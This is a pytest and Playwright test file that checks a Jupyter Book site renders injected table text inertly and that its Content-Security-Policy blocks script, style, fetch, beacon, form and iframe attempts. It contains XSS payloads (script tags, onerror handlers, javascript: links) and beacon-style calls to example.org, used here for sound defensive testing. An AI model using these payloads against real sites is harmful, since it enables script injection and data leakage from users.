"""What is hostile does nothing to a reader: a row of the tables shows as the text it is.

And where some text came to be markup after all, the policy of the pages stops it.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlencode

import nbformat
import pandas as pd
import pytest
import yaml
from browsing import serve, show_all, until
from conftest import Visit, visiting
from playwright.sync_api import Browser

from dyadbook.book.render import stage
from dyadbook.evidence.package import cutoff
from dyadbook.project import PAGES, Project

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("hostile")]  # the fixture takes a minute

READ = ("_config.yml", "_toc.yml", "CITATION.cff", "book", "data", "notebooks", "seeds")

HOSTILE = (
    "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
    " **bold** {numref}`x` [a](javascript:window.hacked=1) </td></table>"
)

DAMAGE = {
    "data/sources.csv": ["title", "publisher", "author"],
    "data/observations.csv": ["note"],
    "data/events.csv": ["title", "summary", "place"],
    "data/projects.csv": ["name", "note"],
    "data/commitments.csv": ["what"],
    "seeds/claims.csv": ["statement"],
}
"""Tables that reach pages, and their columns of free text: every row that has one carries the text."""

SHOWN = {
    "notebooks/chronology": 2,  # titles of events, names of projects
    "notebooks/claims": 1,
    "notebooks/commitments": 1,
    "book/sources": 1,
}
"""Pages that are built of the damaged tables, and how many texts of each must show at least."""


DYADBOOK = "from dyadbook.cli import run_main; run_main()"
JUPYTER_BOOK = "from jupyter_book.cli.main import main; main()"


def run(copy: Project, program: str, *arguments: str | Path) -> None:
    """Run a program in the copy, as a process of its own: the browser holds this one's event loop."""
    done = subprocess.run(
        [sys.executable, "-c", program, *map(str, arguments)],
        cwd=copy.root, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.fixture(scope="module")
def hostile(project: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book of the pages in `SHOWN`, made of a copy of the tables in which every free text is hostile."""
    copy = Project(tmp_path_factory.mktemp("hostile"))
    for name in READ:
        source = project.root / name
        (shutil.copytree if source.is_dir() else shutil.copy)(source, copy.root / name)
    for name, columns in DAMAGE.items():
        table = pd.read_csv(copy.root / name, dtype=str, keep_default_na=False)
        for column in columns:
            table[column] = table[column].where(table[column] == "", table[column] + HOSTILE)
        table.to_csv(copy.root / name, index=False)
    staging = copy.root / "staging"
    staging.mkdir()
    stage(copy, staging, cutoff(copy))
    for page in PAGES:  # those that are not built have a hash all the same
        nbformat.write(nbformat.v4.new_notebook(), staging / "notebooks" / f"{page}.ipynb")
    contents = {"format": "jb-book", "root": "book/preface", "chapters": [{"file": page} for page in SHOWN]}
    (staging / "_toc.yml").write_text(yaml.safe_dump(contents), encoding="utf-8")
    notebooks = [page.removeprefix("notebooks/") for page in SHOWN if page.startswith("notebooks/")]
    with ThreadPoolExecutor(2) as pool:
        list(
            pool.map(lambda name: run(copy, DYADBOOK, "run", name, "--out", staging / "notebooks"), notebooks)
        )
    # Without the other pages some references lead nowhere: here warnings are no errors.
    run(copy, JUPYTER_BOOK, "build", staging, "-q")
    return staging / "_build" / "html"


@pytest.fixture(scope="module")
def address(hostile: Path) -> Iterator[str]:
    """Where the hostile book is served."""
    with serve(hostile) as address:
        yield address


@pytest.mark.parametrize("page", SHOWN)
def test_a_hostile_row_shows_as_text(browser: Browser, address: str, page: str) -> None:
    with visiting(browser, address, f"{page}.html") as opened:
        show_all(opened)
        opened.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
        opened.evaluate("for (const one of document.querySelectorAll('main a.fact')) one.click()")
        text = " ".join(opened.locator("main").inner_text().split())
        assert text.count(HOSTILE) >= SHOWN[page]
        assert opened.evaluate("window.hacked") is None
        assert opened.locator("main :is(script:not([type]), img[src=x], [href^='javascript:'])").count() == 0


def test_a_hostile_row_is_found_as_text(browser: Browser, address: str) -> None:
    with visiting(browser, address, f"search.html?{urlencode({'q': 'hacked'})}") as opened:
        opened.locator("#search-results a").first.wait_for()
        assert opened.evaluate("window.hacked") is None
        assert opened.locator("#search-results :is(script, img)").count() == 0


ATTACKS = {
    "a script in the page": ("add('script', {textContent: 'hacked = 1'})", "script-src-elem"),
    "a script of a data address": ("add('script', {src: 'data:,hacked=1'})", "script-src-elem"),
    "a script of another host": ("add('script', {src: 'https://example.org/x.js'})", "script-src-elem"),
    "a handler": ("add('p').innerHTML = '<b onclick=hacked=1>'; it.firstChild.click()", "script-src-attr"),
    "code made of text": ("setTimeout('hacked = 1')", "script-src"),
    "a link that is code": ("add('a', {href: 'javascript:hacked=1'}).click()", "script-src-elem"),
    "a style in the page": ("add('style', {textContent: '* { color: red }'})", "style-src-elem"),
    "a style of an element": ("add('p').innerHTML = '<b style=color:red>x</b>'", "style-src-attr"),
    "a style sheet of another host": (
        "add('link', {rel: 'stylesheet', href: 'https://example.org/x.css'})", "style-src-elem",
    ),
    "a picture that tells another host": ("add('img', {src: 'https://example.org/?told'})", "img-src"),
    "a request": ("fetch('https://example.org/?told').catch(() => {})", "connect-src"),
    "a beacon": ("navigator.sendBeacon('https://example.org/?told')", "connect-src"),
    "a form to another host": (
        "add('form', {action: 'https://example.org/', method: 'post'}).submit()", "form-action",
    ),
    "another base of all links": ("add('base', {href: 'https://example.org/'})", "base-uri"),
    "a page within the page": ("add('iframe', {src: 'https://example.org/'})", "frame-src"),
    "an object": ("add('object', {data: 'https://example.org/x.pdf'})", "object-src"),
}  # fmt: skip
"""Things that markup or a script can try, and the directive of the policy that forbids each."""

WITNESS = """
    window.forbidden = [];
    document.addEventListener("securitypolicyviolation", (event) => forbidden.push(event.effectiveDirective));
    window.add = (name, properties = {}) => {
        window.it = Object.assign(document.createElement(name), properties);
        document.body.append(it);
        return it;
    };
"""


@pytest.mark.parametrize("way", ["server", "file"])
def test_the_policy_stops_what_would_get_through(browser: Browser, html: Path, served: str, way: str) -> None:
    address = f"{served if way == 'server' else html.as_uri()}/book/citing.html"
    page = browser.new_page()
    page.add_init_script(WITNESS)
    page.goto(address)
    assert page.evaluate("forbidden") == []
    for name, (attack, directive) in ATTACKS.items():
        page.evaluate(f"() => {{ forbidden.length = 0; {attack}; }}")
        until(lambda: page.evaluate("forbidden.length") > 0)
        assert page.evaluate("forbidden") == [directive], name
    assert page.evaluate("window.hacked") is None
    assert page.url == address
    page.close()


def test_a_live_chart_tells_of_its_marks(anyway: Visit) -> None:
    """Vega's own styles are forbidden too: what a mark tells has those of the book."""
    with anyway("notebooks/claims.html") as page:
        frame = page.locator(".frame:has(script.vega-lite, .vega-chart)").first
        frame.scroll_into_view_if_needed()
        mark = page.locator(".vega-chart .mark-text.role-mark text").first
        mark.wait_for()
        mark.hover()
        told = page.locator(".vg-tooltip.visible")
        told.wait_for()
        assert told.locator("tr").count() == 5
        assert told.evaluate("one => getComputedStyle(one).position") == "fixed"
        page.mouse.move(0, 0)
        told.wait_for(state="hidden")
